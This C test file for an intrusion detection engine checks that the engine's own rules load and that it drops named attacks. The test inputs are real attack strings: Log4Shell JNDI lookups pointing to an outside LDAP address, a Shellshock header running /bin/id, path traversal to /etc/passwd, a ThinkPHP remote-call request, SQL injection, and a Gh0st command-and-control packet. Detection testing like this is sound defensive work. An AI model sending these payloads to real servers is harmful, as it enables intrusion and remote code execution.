/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "gate/detect/run/rig.h"

/* The rules and lists of the tree itself: every rule loads, and the ones that the service
 * promises by name stop what they should. */
static struct rig r;

static char *own_rules(void)
{
	static char text[65536];
	FILE *f = fopen(SRC_ROOT "/rules/otasuke.rules", "r");

	check(f);
	if (f) {
		text[fread(text, 1, sizeof(text) - 1, f)] = 0;
		fclose(f);
	}
	return text;
}

static void all_load(void)
{
	const char *const lists[] = { SRC_ROOT "/rules/sites/sample-dangerous.sites",
		SRC_ROOT "/rules/sites/sample-off-business.sites" };
	struct engine_source source = { .site_lists = lists, .site_list_count = 2 };
	struct buf why;

	rig_open(&r, own_rules(), NULL);
	check(engine_report(r.engine).loaded >= 25);
	for (unsigned i = 0; i < 2; i++)
		check(engine_report(r.engine).disabled == 0);
	rig_close(&r);
	buf_init(&why, 1024);
	struct engine *e = engine_build(&source, &why);
	check(e && engine_report(e).sites == 5 && engine_report(e).refused == 0);
	engine_unref(e);
	buf_fini(&why);
}

/* The flow as one from outside to a server of ours. */
static void from_outside(void)
{
	struct addr ours = r.flow.client;

	r.flow.client = r.flow.server;
	r.flow.server = ours;
}

static void call_home(void)
{
	rig_open(&r, own_rules(), NULL);
	check_eq(
	    rig_send(&r, PACKET_TO_SERVER, "Gh0st\xad\0\0\0\xe0\0\0\0x\x9cKS", 17), 1);
	check_eq(r.sids[0], 9100018);
	check_eq(r.first->wish, FINDING_DROP);
	check_text(r.first->rule->class_id, "command-and-control");
	rig_close(&r);
}

static struct tx *request(const char *uri, const char *header)
{
	r.flow.app = FLOW_APP_HTTP;
	struct tx *tx = tx_new(&r.flow, FLOW_APP_HTTP);
	tx_add(tx, TX_HTTP_METHOD, PACKET_TO_SERVER, span_text("GET"));
	tx_add(tx, TX_HTTP_URI, PACKET_TO_SERVER, span_text(uri));
	tx_add(tx, TX_HTTP_URI_RAW, PACKET_TO_SERVER, span_text(uri));
	tx_add(tx, TX_HTTP_HEADER, PACKET_TO_SERVER, span_text(header));
	tx->progress[0] = TX_DONE;
	return tx;
}

static uint32_t sid_of(const char *uri, const char *header)
{
	rig_open(&r, own_rules(), NULL);
	from_outside();
	request(uri, header);
	rig_text(&r, PACKET_TO_SERVER, "GET");
	uint32_t sid =
	    r.sid_count == 1 && r.first->wish == FINDING_DROP ? r.sids[0] : r.sid_count;
	rig_close(&r);
	return sid;
}

static void web_attacks(void)
{
	check_eq(sid_of("/", "Host: a.example\r\n"), 0);
	check_eq(sid_of("/?x=${jndi:ldap://203.0.113.66/a}", ""), 9100001);
	check_eq(sid_of("/", "User-Agent: ${JNDI:ldap://203.0.113.66/a}\r\n"), 9100002);
	check_eq(sid_of("/", "User-Agent: () { :; }; /bin/id\r\n"), 9100005);
	check_eq(sid_of("/a/../../../../etc/passwd", ""), 9100006);
	check_eq(
	    sid_of(
		"/index.php?s=/Index/invokefunction&function=call_user_func_array", ""),
	    9100008);
	check_eq(sid_of("/?id=1 union all select 1,2", ""), 9100014);
	check_eq(sid_of("/union/and/select/", ""), 0);
}

CHECK_MAIN(all_load, call_home, web_attacks)
